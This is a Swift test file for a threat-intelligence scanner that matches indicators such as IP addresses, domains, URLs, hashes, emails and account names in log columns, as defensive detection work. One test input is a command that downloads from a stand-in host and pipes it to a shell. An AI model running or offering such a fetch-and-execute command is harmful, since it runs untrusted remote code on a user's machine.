import Testing
import ThreatIntelligence

@Suite struct ObservableScannerTests {
    private func index(_ values: String...) throws -> ObservableIndex {
        var index = ObservableIndex()
        for (number, value) in values.enumerated() {
            index.insert(try Observable(detecting: value), number: UInt32(number))
        }
        return index
    }

    private func hits(_ text: String, _ role: ColumnRole, _ index: ObservableIndex) -> Set<UInt32> {
        var scanner = ObservableScanner()
        var found: Set<UInt32> = []
        var copy = text
        copy.withUTF8 { scanner.scan($0, as: role, in: index) { found.insert($0) } }
        return found
    }

    @Test func `an address is found with port, in lists, mapped, and within networks`() throws {
        let index = try index("203.0.113.7", "198.51.100.0/24", "2001:db8::/32")
        #expect(hits("203.0.113.7", .address, index) == [0])
        #expect(hits("203.0.113.7:443", .address, index) == [0])
        #expect(hits("::ffff:203.0.113.7", .address, index) == [0])
        #expect(hits("10.0.0.1, 198.51.100.200", .address, index) == [1])
        #expect(hits("[\"203.0.113.7\",\"2001:db8:1::5\"]", .address, index) == [0, 2])
        #expect(hits("[2001:db8::1]:8080", .address, index) == [2])
        #expect(hits("203.0.113.70", .address, index).isEmpty)
    }

    @Test func `a domain is found with its subdomains and nothing else`() throws {
        let index = try index("evil.example")
        #expect(hits("EVIL.example", .domain, index) == [0])
        #expect(hits("a.b.evil.example.", .domain, index) == [0])
        #expect(hits("notevil.example", .domain, index).isEmpty)
        #expect(hits("evil.example.org", .domain, index).isEmpty)
        #expect(hits("https://x.evil.example:8443/p?q", .url, index) == [0])
        #expect(hits("someone@evil.example", .email, index) == [0])
    }

    @Test func `a URL is found with any scheme, any query, and beneath a folder`() throws {
        let index = try index(
            "https://evil.example/a/b", "http://share.example/bad/", "http://root.example/", "http://q.example/x?id=1")
        #expect(hits("http://EVIL.example/a/b?x=1", .url, index) == [0])
        #expect(hits("evil.example/a/b#f", .url, index) == [0])
        #expect(hits("http://evil.example/a/bc", .url, index).isEmpty)
        #expect(hits("https://user@share.example:443/bad/deep/er", .url, index) == [1])
        #expect(hits("https://root.example/other", .url, index).isEmpty)
        #expect(hits("https://root.example", .url, index) == [2])
        #expect(hits("https://q.example/x?id=2", .url, index).isEmpty)
        #expect(hits("https://q.example/x?id=1", .url, index) == [3])
    }

    @Test func `text is searched for everything`() throws {
        let hash = String(repeating: "ab", count: 32)
        let index = try index("evil.example", "203.0.113.7", hash, "bad@mail.example", "http://u.example/x")
        #expect(hits("curl -s http://u.example/x?a=b | sh", .text, index) == [4])
        #expect(hits("query: www.evil.example. from 203.0.113.7#53", .text, index).contains(0))
        #expect(hits("src=203.0.113.7 dst=10.0.0.1", .text, index) == [1])
        #expect(hits("MD5=00,SHA256=\(hash.uppercased())", .hash, index) == [2])
        #expect(hits("from=<bad@mail.example>,", .text, index) == [3])
        #expect(hits(#"{"Url":"https://cdn.evil.example/a","n":1}"#, .text, index) == [0])
    }

    @Test func `an account is found bare, with domain and as principal name`() throws {
        var index = ObservableIndex()
        index.insert(try Observable(.account, "svc-backup"), number: 0)
        index.insert(try Observable(.email, "ann@corp.example"), number: 1)
        #expect(hits("CORP\\svc-backup", .account, index) == [0])
        #expect(hits("SVC-Backup@corp.example", .account, index) == [0])
        #expect(hits("ann@corp.example", .account, index) == [1])
        #expect(hits("svc-backup2", .account, index).isEmpty)
    }

    @Test func `many observables with the same value are all found, after any growth`() throws {
        var index = ObservableIndex(capacity: 1)
        for number in 0..<5_000 {
            index.insert(try Observable(.ipv4, "10.\(number / 250).\(number % 250).1"), number: UInt32(number))
        }
        for number in 5_000..<5_003 { index.insert(try Observable(.ipv4, "10.1.1.1"), number: UInt32(number)) }
        #expect(hits("10.1.1.1", .address, index) == [251, 5_000, 5_001, 5_002])
        #expect(hits("10.19.249.1", .address, index) == [4_999])
        #expect(hits("10.200.0.1", .address, index).isEmpty)
    }

    @Test(arguments: [
        ("SrcIpAddr", ColumnRole.address), ("CallerIPAddress", .address), ("src_ip_s", .address), ("cIP", .address),
        ("IPAddresses", .address), ("RemoteIP", .address), ("id.orig_h", .address), ("SenderIPv4", .address),
        ("RequestURL", .url), ("RemoteUrl", .url), ("QueryName", .domain), ("DestinationHostName", .domain),
        ("FileSHA256", .hash), ("Hashes", .hash), ("FileHashValue", .hash), ("SenderFromAddress", .email),
        ("RecipientEmailAddress", .email), ("TargetUserName", .account), ("AccountUpn", .email),
        ("SyslogMessage", .text), ("ProcessCommandLine", .text), ("Caller", .account),
    ])
    func `the name of a column tells what it holds`(name: String, role: ColumnRole) {
        #expect(ColumnRole(column: name, isDynamic: false) == role)
    }

    @Test(arguments: [
        "TenantId", "Type", "RemoteIPCountry", "RemotePort", "MACAddress_s", "UserAgent", "EventID", "LogonType",
    ])
    func `other columns hold nothing of the kind`(name: String) {
        #expect(ColumnRole(column: name, isDynamic: false) == nil)
    }
}
